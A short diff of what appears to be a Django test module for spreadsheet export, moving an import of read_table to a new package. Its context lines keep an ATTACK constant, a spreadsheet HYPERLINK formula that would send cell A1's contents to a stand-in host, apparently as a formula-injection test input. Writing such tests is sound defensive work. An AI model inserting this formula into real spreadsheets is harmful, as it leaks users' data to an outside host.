@@ -11,8 +11,8 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from clusters.models import Indicator, SelfAssessment
-from clusters.tables import read_table
 from core.spreadsheets import spreadsheet_text, spreadsheet_text_read, to_csv, to_xlsx
+from core.tables import read_table
 from kelurahan.models import Patbm
 
 ATTACK = '=HYPERLINK("http://x/?d="&A1,"Klik")'
